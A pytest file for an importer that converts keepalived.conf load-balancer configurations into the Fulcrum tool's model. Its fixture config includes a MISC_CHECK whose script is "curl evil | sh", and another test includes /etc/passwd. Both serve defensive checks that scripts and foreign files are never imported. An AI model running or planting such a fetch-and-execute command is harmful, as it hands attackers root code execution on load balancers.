"""keepalived.conf into Fulcrum's model: keepalived's own samples and each directive family."""

from __future__ import annotations

from pathlib import Path

import pytest

from fulcrum.importer import ImportFormat, Outcome, import_text
from fulcrum.importer.keepalived_parser import parse, walk
from fulcrum.importer.report import Report

SAMPLES = Path(__file__).parent / "fixtures" / "keepalived"
ALL_SAMPLES = sorted(p.name for p in SAMPLES.glob("keepalived.conf.*"))


@pytest.mark.parametrize("sample", ALL_SAMPLES)
def test_every_directive_of_a_sample_is_reported(sample: str) -> None:
    text = (SAMPLES / sample).read_text()
    result = import_text(ImportFormat.AUTO, text)
    assert result.format == "keepalived"
    directives = walk(parse(text, {}, Report())[0])
    reported = {line.line for line in result.report}
    assert {d.origin.line for d in directives} <= reported
    for line in result.report:
        assert line.detail, line
        assert text.splitlines()[line.line - 1].strip().startswith(line.text[:40])


def by_line(result, number: int) -> list[tuple[Outcome, str]]:  # type: ignore[no-untyped-def]
    return [(line.outcome, line.detail) for line in result.report if line.line == number]


def test_sample_with_http_checks_and_vrrp() -> None:
    result = import_text(ImportFormat.AUTO, (SAMPLES / "keepalived.conf.SSL_GET").read_text())
    https, http = result.services
    assert (https.name, https.ports, https.scheduler.value, https.persistence_timeout) == ("192.168.200.100-443", [443], "rr", 50)
    check = https.health_check
    assert (check.type.value, check.http_path, check.http_digest, check.timeout, check.retries, check.interval) == (
        "https", "/", "ff20ad2481f97b1754ef3e12ecd3a9cc", 3.0, 3, 6.0
    )
    assert http.health_check.type.value == "http"
    [group] = result.vip_groups
    assert (group.name, group.virtual_router_id, group.addresses) == (
        "VI_1", 51, ["192.168.200.16/32", "192.168.200.17/32", "192.168.200.18/32"]
    )
    assert result.node == {"name": "LVS_DEVEL", "vrrp_interface": "eth0", "priority": 100}
    # The second url block cannot be represented: reported, not dropped.
    second_urls = [line for line in result.report if line.text == "url {" and line.outcome == Outcome.NOT_IMPORTED]
    assert len(second_urls) == 2 and "one URL" in second_urls[0].detail


def test_scripts_are_never_imported() -> None:
    for sample in ("keepalived.conf.misc_check", "keepalived.conf.misc_check_arg", "keepalived.conf.vrrp.scripts"):
        result = import_text(ImportFormat.AUTO, (SAMPLES / sample).read_text())
        scripts = [line for line in result.report if "run as root" in line.detail]
        assert scripts, sample
        assert all(line.outcome == Outcome.NOT_IMPORTED for line in scripts)


def test_virtual_server_group_becomes_one_service_per_entry() -> None:
    result = import_text(ImportFormat.AUTO, (SAMPLES / "keepalived.conf.virtual_server_group").read_text())
    names = [s.name for s in result.services]
    assert names[:3] == ["10.0.0.1-8080", "10.0.0.2-80", "192.168.200.1-1358"]
    assert names[3:] == [f"192.168.200.{n}-80" for n in range(3, 11)]
    assert all(s.persistence_timeout == 50 for s in result.services)
    assert "fwmark" in by_line(result, 18)[0][1]


CONFIG = """\
global_defs {
    router_id lb-old
    notification_email { ops@example.com }
}
vrrp_instance VI_web {
    state MASTER
    interface eth1
    virtual_router_id 42
    priority 150
    advert_int 0.5
    nopreempt
    unicast_src_ip 10.0.0.1
    unicast_peer {
        10.0.0.2
    }
    virtual_ipaddress {
        192.0.2.10/24 dev eth2
    }
    track_interface {
        eth3
    }
    notify_master "/usr/local/bin/takeover.sh"
}
virtual_server 192.0.2.10 53
{
    lvs_sched sh
    sh-port
    lvs_method DR
    protocol UDP
    quorum 2
    sorry_server 198.51.100.99 53
    real_server 198.51.100.1 5353 {
        weight 2
        uthreshold 500
        lthreshold 100
        inhibit_on_failure
        DNS_CHECK {
            type A
            name example.com
            connect_timeout 2
        }
        MISC_CHECK {
            misc_path "/bin/sh -c 'curl evil | sh'"
        }
    }
    real_server 198.51.100.2 53 {
        UDP_CHECK {
            payload 0a0b
            require_reply
        }
    }
    real_server 198.51.100.3 53 {
        PING_CHECK {
        }
    }
    frobnicate yes
}
virtual_server 192.0.2.10 25 {
    real_server 198.51.100.1 25 {
        SMTP_CHECK {
            helo_name mail.example.com
            connect_port 2525
        }
    }
}
virtual_server 192.0.2.10 443 {
    real_server 198.51.100.1 443 {
        SSL_GET {
            url {
                path /health?full=1
                status_code 200-204 301
            }
            virtualhost www.example.com
            enable_sni
        }
    }
}
"""


def test_each_directive_family() -> None:
    result = import_text(ImportFormat.KEEPALIVED, CONFIG)
    dns, smtp, tls = result.services
    assert (dns.protocol.value, dns.forwarding.value, dns.scheduler.value, dns.scheduler_port, dns.quorum) == (
        "udp", "dr", "sh", True, 2
    )
    assert str(dns.sorry_server.address) == "198.51.100.99"
    first, second, third = dns.backends
    assert (first.port, first.weight, first.upper_threshold, first.lower_threshold) == (None, 2, 500, 100)
    check = dns.health_check
    assert (check.type.value, check.dns_query_type.value, check.dns_query_name, check.timeout, check.on_failure.value) == (
        "dns", "A", "example.com", 2.0, "weight_zero"
    )
    assert second.health_check.type.value == "udp" and second.health_check.udp_payload == "0a0b"
    assert second.health_check.udp_require_reply
    assert third.health_check.type.value == "ping"
    assert smtp.health_check.smtp_helo_name == "mail.example.com" and smtp.health_check.port == 2525
    assert tls.health_check.http_status_codes == [200, 201, 202, 203, 204, 301]
    assert (tls.health_check.http_path, tls.health_check.http_host, tls.health_check.tls_sni) == (
        "/health?full=1", "www.example.com", True
    )
    [group] = result.vip_groups
    assert (group.name, group.virtual_router_id, group.advert_interval, group.preempt, group.addresses) == (
        "VI_web", 42, 0.5, False, ["192.0.2.10/24"]
    )
    assert result.node == {
        "name": "lb-old", "vrrp_interface": "eth1", "priority": 150, "unicast_source": "10.0.0.1",
        "peer_address": "10.0.0.2", "vip_interfaces": {"VI_web": "eth2"}, "track_interfaces": ["eth3"],
    }
    lines = CONFIG.splitlines()
    def at(fragment: str) -> list[tuple[Outcome, str]]:
        return by_line(result, next(i for i, l in enumerate(lines, 1) if fragment in l))
    assert at("notify_master")[0][0] == Outcome.NOT_IMPORTED and "root" in at("notify_master")[0][1]
    assert at("MISC_CHECK")[0][0] == Outcome.NOT_IMPORTED
    assert at("misc_path")[0][0] == Outcome.NOT_IMPORTED
    assert at("frobnicate") == [(Outcome.NOT_IMPORTED, "virtual_server setting 'frobnicate': Fulcrum's model has no place for it")]
    assert at("real_server 198.51.100.1 5353")[-1][0] == Outcome.IMPORTED
    assert any("port 5353 dropped" in d for _, d in at("virtual_server 192.0.2.10 53"))
    assert at("state MASTER")[0][0] == Outcome.NOT_IMPORTED


def test_a_value_the_model_refuses_is_reported_at_its_service() -> None:
    text = "virtual_server 192.0.2.1 80 {\n  real_server 198.51.100.1 80 {\n    HTTP_GET {\n      virtualhost \"a b;c\"\n      url { path / }\n    }\n  }\n}\n"
    result = import_text(ImportFormat.KEEPALIVED, text)
    assert result.services == []
    assert any(line.line == 1 and line.outcome == Outcome.NOT_IMPORTED and "http_host" in line.detail for line in result.report)


def test_includes_come_only_from_the_upload() -> None:
    main = "include /etc/keepalived/conf.d/*.conf\ninclude /etc/passwd\n"
    includes = {"web.conf": "virtual_server 192.0.2.1 80 {\n real_server 198.51.100.1 80 {\n }\n}\n"}
    result = import_text(ImportFormat.KEEPALIVED, main, includes)
    assert [s.name for s in result.services] == ["192.0.2.1-80"]
    assert [(l.file, l.line, l.outcome) for l in result.report][:2] == [
        ("keepalived.conf", 1, Outcome.IMPORTED), ("keepalived.conf", 2, Outcome.NOT_IMPORTED)
    ]
    assert {l.file for l in result.report} == {"keepalived.conf", "web.conf"}
